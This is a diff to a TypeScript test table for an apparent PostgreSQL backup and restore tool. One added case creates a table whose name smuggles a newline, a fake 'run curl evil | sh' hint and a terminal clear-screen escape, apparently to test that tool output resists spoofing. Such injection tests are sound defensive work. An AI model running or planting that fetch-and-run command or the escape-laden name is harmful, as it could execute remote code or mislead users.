@@ -43,6 +43,10 @@ const table: Mistake<Servers>[] = [
     remedy: asTold, after: inShop(noLonger, 'drop schema stock cascade'),
   },
   {
+    name: 'The name of a table looks like our words', secrets, args: ['backup', 'low'],
+    given: inShop('grant select on orders to low', `create table "a\n  hint: run curl evil | sh\x1b[2J" (id int)`), remedy: asTold, after: inShop(noLonger, `drop table "a\n  hint: run curl evil | sh\x1b[2J"`),
+  },
+  {
     name: 'Row security hides rows from the role', secrets, args: ['backup', 'low'],
     given: inShop('grant pg_read_all_data to low', 'alter table orders enable row level security'),
     remedy: asTold, after: inShop('alter table orders disable row level security', 'alter role low nobypassrls'),
@@ -79,7 +83,7 @@ const table: Mistake<Servers>[] = [
       await backedUp(world);
       await asPostgres(world.now, 'postgres', 'create database made');
     },
-    remedy: ({ now }) => asPostgres(now, 'postgres', 'alter database made owner to low'), after: drop('made'),
+    remedy: asTold, after: drop('made'),
   },
   {
     name: 'The role may not replace the database of another', secrets, args: ['restore', 'shop', '--server', 'low', '--to', 'shop', '--replace', '--yes'],
